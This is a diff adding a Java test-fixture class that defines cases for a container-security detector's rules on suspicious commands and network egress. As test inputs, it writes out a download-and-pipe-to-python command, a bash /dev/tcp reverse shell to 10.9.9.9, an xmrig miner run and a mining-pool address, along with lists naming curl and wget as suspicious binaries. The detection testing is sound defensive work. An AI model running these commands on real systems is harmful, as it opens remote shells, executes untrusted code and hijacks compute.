@@ -1,0 +1,233 @@
+package io.tallyman.links;
+
+import static io.tallyman.Chain.EVIL;
+import static io.tallyman.Chain.INTERNET;
+import static io.tallyman.Chain.OTHER;
+import static io.tallyman.Chain.SOON;
+import static io.tallyman.History.HOST;
+import static io.tallyman.History.START;
+import static io.tallyman.History.addressed;
+import static io.tallyman.History.created;
+import static io.tallyman.History.executed;
+import static io.tallyman.History.flowed;
+import static io.tallyman.History.started;
+import static io.tallyman.links.ContainerStories.ALMOST_BLOCKING;
+import static io.tallyman.links.ContainerStories.BLOCKING;
+import static io.tallyman.links.ContainerStories.LONE;
+import static io.tallyman.links.ContainerStories.NEW_DIGEST;
+import static io.tallyman.links.ContainerStories.NEXT_DAY;
+import static io.tallyman.links.ContainerStories.POOL;
+import static io.tallyman.links.ContainerStories.TIME_WINDOW;
+import static io.tallyman.links.ContainerStories.USUAL;
+import static io.tallyman.links.ContainerStories.brokenByOtherAddresses;
+import static io.tallyman.links.ContainerStories.brokenByOtherContainers;
+import static io.tallyman.links.ContainerStories.brokenByOtherProcesses;
+import static io.tallyman.links.ContainerStories.excluding;
+import static io.tallyman.links.ContainerStories.flow;
+import static io.tallyman.links.ContainerStories.run;
+import static io.tallyman.links.ContainerStories.silencedByImage;
+import static io.tallyman.links.ContainerStories.withWindow;
+
+import io.tallyman.event.Destination;
+import java.time.Duration;
+import java.util.stream.Stream;
+
+/** Rows of AN0691's commands and connections. */
+final class BehaviourRows {
+
+    private static final String[] CURL = {"curl", "http://" + INTERNET + "/x"};
+    private static final Destination OUT = Destination.of(INTERNET, 443);
+    private static final Destination INSIDE = Destination.of("10.1.2.3", 443);
+    private static final String APPROVED = "ApprovedEgress: {networks: [198.51.100.7/32]}";
+    private static final String ALMOST_APPROVED = "ApprovedEgress: {networks: [198.51.100.6/32]}";
+
+    private BehaviourRows() {}
+
+    static Stream<Row> rows() {
+        return Stream.of(
+                outbound(),
+                newArgument(),
+                download(),
+                reverseShell(),
+                miner(),
+                namesBlocked(),
+                newEgress(),
+                newDestination(),
+                blocked(),
+                pool());
+    }
+
+    private static Row command(String rule, Story base, String... line) {
+        var whole = base.with(Link.COMMAND, run(SOON, line));
+        var row = Row.deciding(rule, whole, Link.CREATION, Link.START, Link.COMMAND);
+        row = silencedByImage(brokenByOtherProcesses(brokenByOtherContainers(row), line));
+        return withWindow(row, Link.COMMAND, time -> run(time, line))
+                .silencedBy(excluding("command: \"%s *\"".formatted(line[0])), excluding("command: \"other *\""))
+                .silencedBy(
+                        excluding("image: \"docker.io/evil/*\", command: \"%s *\"".formatted(line[0])),
+                        excluding("image: \"docker.io/good/*\", command: \"%s *\"".formatted(line[0])));
+    }
+
+    private static Row commandOtherwise(Row row, String name, String... line) {
+        return row.broken(name, row.whole().with(Link.COMMAND, run(SOON, line)));
+    }
+
+    private static Row outbound() {
+        var row = command("AN0691.4 listed binary executed with an outbound argument", LONE, CURL)
+                .silencedBy("SuspiciousBinaries: [wget]", "SuspiciousBinaries: [curl]")
+                .silencedBy(APPROVED, ALMOST_APPROVED)
+                .broken(
+                        "a new digest of an allowed repository",
+                        NEW_DIGEST.with(Link.COMMAND, run(NEXT_DAY.plusSeconds(5), CURL)));
+        row = commandOtherwise(row, "no destination", "curl", "--version");
+        row = commandOtherwise(row, "an approved destination", "curl", "http://10.1.2.3/x");
+        row = commandOtherwise(row, "itself as destination", "curl", "http://127.0.0.1/x");
+        return commandOtherwise(row, "a binary that is not listed", "tar", "http://" + INTERNET + "/x");
+    }
+
+    private static Row newArgument() {
+        var soon = NEXT_DAY.plusSeconds(5);
+        var whole = NEW_DIGEST.with(Link.COMMAND, run(soon, CURL)).with(Link.FLOW, flow(soon, INTERNET));
+        return Row.adding(
+                        "AN0691.4 listed binary executed with an argument new for an allowed repository",
+                        whole,
+                        Link.PAST,
+                        Link.IMAGE,
+                        Link.CREATION,
+                        Link.START,
+                        Link.COMMAND)
+                .broken(
+                        "a destination that the repository knows",
+                        whole.with(Link.COMMAND, run(soon, "curl", "http://" + USUAL)))
+                .broken("a binary that is not listed", whole.with(Link.COMMAND, run(soon, "tar", CURL[1])))
+                .broken("an unlisted image", whole.tuned("ImageRegistryAllowList: [docker.io/other/*]"))
+                .broken("process of no container", whole.with(Link.COMMAND, executed(soon, HOST, 77, 1, CURL)))
+                .silencedBy("BaselineGuard: {minimumDestinations: 3}", "BaselineGuard: {minimumDestinations: 2}")
+                .silencedBy("SuspiciousBinaries: [wget]", "SuspiciousBinaries: [curl]")
+                .silencedBy(APPROVED, ALMOST_APPROVED)
+                .silencedBy(excluding("command: \"curl *\""), excluding("command: \"wget *\""))
+                .edge(
+                        "TimeWindow after the start",
+                        TIME_WINDOW,
+                        since -> whole.with(Link.COMMAND, run(NEXT_DAY.plus(since), CURL)))
+                .edge(
+                        "ClockTolerance before the start, the container being a second old",
+                        Duration.ofSeconds(2),
+                        before -> whole.with(Link.COMMAND, run(NEXT_DAY.minus(before), CURL)));
+    }
+
+    private static Row download() {
+        String[] line = {"bash", "-c", "wget -qO- http://" + INTERNET + "/i | python3"};
+        var row = command("AN0691.4 downloaded content executed", LONE.tuned("SuspiciousBinaries: []"), line)
+                .silencedBy(APPROVED, ALMOST_APPROVED);
+        row = commandOtherwise(row, "downloaded only", "bash", "-c", "wget -qO- http://" + INTERNET + "/i");
+        return commandOtherwise(row, "downloaded from within", "bash", "-c", "wget -qO- http://10.1.2.3/i | python3");
+    }
+
+    private static Row reverseShell() {
+        String[] line = {"bash", "-c", "bash -i >& /dev/tcp/10.9.9.9/443 0>&1"};
+        return commandOtherwise(
+                command("AN0691.4 reverse shell opened", LONE, line),
+                "a shell without connection",
+                "bash",
+                "-c",
+                "bash -i");
+    }
+
+    private static Row miner() {
+        return commandOtherwise(
+                command("AN0691.4 known miner executed", LONE, "xmrig", "--threads", "2"),
+                "another program",
+                "rig",
+                "--threads",
+                "2");
+    }
+
+    private static Row namesBlocked() {
+        var row = command(
+                        "AN0691.4 command names a blocked destination",
+                        LONE.tuned("OutboundCIDRBlockList: {networks: [10.9.9.0/24]}"),
+                        "fetcher",
+                        "http://10.9.9.9/x")
+                .silencedBy(
+                        "OutboundCIDRBlockList: {networks: [10.9.8.0/24]}",
+                        "OutboundCIDRBlockList: {networks: [10.9.9.9/32]}");
+        row = commandOtherwise(row, "another destination", "fetcher", "http://10.9.8.9/x");
+        return row.also("a mining pool", LONE.with(Link.COMMAND, run(SOON, "fetcher", "pool.minexmr.com:4444")));
+    }
+
+    private static Row egress(String rule, Story base, Destination destination) {
+        var whole = base.with(Link.FLOW, flow(SOON, destination));
+        var row = Row.deciding(rule, whole, Link.CREATION, Link.START, Link.PLACE, Link.FLOW);
+        row = silencedByImage(brokenByOtherAddresses(brokenByOtherContainers(row), destination));
+        row = row.broken("another destination", whole.with(Link.FLOW, flow(SOON, INSIDE)));
+        return withWindow(row, Link.FLOW, time -> flow(time, destination));
+    }
+
+    private static Row excludable(Row row) {
+        return row.silencedBy(excluding("destination: 198.51.100.0/28"), excluding("destination: 198.51.100.16/28"))
+                .silencedBy(
+                        excluding("image: \"docker.io/evil/*\", destination: 198.51.100.0/28"),
+                        excluding("image: \"docker.io/good/*\", destination: 198.51.100.0/28"));
+    }
+
+    private static Row newEgress() {
+        return excludable(egress("AN0691.5 new egress outside the approved networks", LONE, OUT))
+                .broken("to itself", LONE.with(Link.FLOW, flow(SOON, "127.0.0.1")))
+                .broken("a destination that the repository knows", known())
+                .broken(
+                        "a new digest of an allowed repository, to where it always goes",
+                        NEW_DIGEST.with(Link.FLOW, flow(NEXT_DAY.plusSeconds(5), USUAL)))
+                .silencedBy(APPROVED, ALMOST_APPROVED);
+    }
+
+    /* A container of the same image went there the day before, after its window. */
+    private static Story known() {
+        var before = START.minus(Duration.ofDays(1));
+        var after = before.plus(TIME_WINDOW).plusSeconds(5);
+        return LONE.with(
+                        Link.PAST,
+                        created(before.minusSeconds(1), OTHER, EVIL),
+                        started(before, OTHER, 8000),
+                        addressed(HOST, OTHER, "10.88.0.99"),
+                        flowed(after, HOST, "10.88.0.99", OUT))
+                .with(Link.FLOW, flow(SOON, OUT));
+    }
+
+    private static Row newDestination() {
+        var whole = NEW_DIGEST.with(Link.FLOW, flow(NEXT_DAY.plusSeconds(5), OUT));
+        var row = Row.deciding(
+                "AN0691.5 destination new for an allowed repository",
+                whole,
+                Link.PAST,
+                Link.IMAGE,
+                Link.CREATION,
+                Link.START,
+                Link.PLACE,
+                Link.FLOW);
+        return row.silencedBy(excluding("destination: 198.51.100.0/28"), excluding("destination: 198.51.100.16/28"))
+                .silencedBy(excluding("image: \"docker.io/corp/*\""), excluding("image: \"docker.io/other/*\""))
+                .broken(
+                        "a destination that the repository knows",
+                        whole.with(Link.FLOW, flow(NEXT_DAY.plusSeconds(5), USUAL)))
+                .broken("an approved one", whole.with(Link.FLOW, flow(NEXT_DAY.plusSeconds(5), INSIDE)))
+                .silencedBy("BaselineGuard: {minimumDestinations: 3}", "BaselineGuard: {minimumDestinations: 2}")
+                .silencedBy(APPROVED, ALMOST_APPROVED)
+                .edge(
+                        "TimeWindow after the start",
+                        TIME_WINDOW,
+                        since -> whole.with(Link.FLOW, flow(NEXT_DAY.plus(since), OUT)));
+    }
+
+    private static Row blocked() {
+        return egress(
+                        "AN0691.5 egress to a blocked destination",
+                        LONE.tuned(BLOCKING).tuned(APPROVED),
+                        OUT)
+                .silencedBy(ALMOST_BLOCKING, "OutboundCIDRBlockList: {networks: [198.51.100.7/32]}");
+    }
+
+    private static Row pool() {
+        return excludable(egress("AN0691.5 egress to a mining pool", LONE.tuned(APPROVED), POOL));
+    }
+}
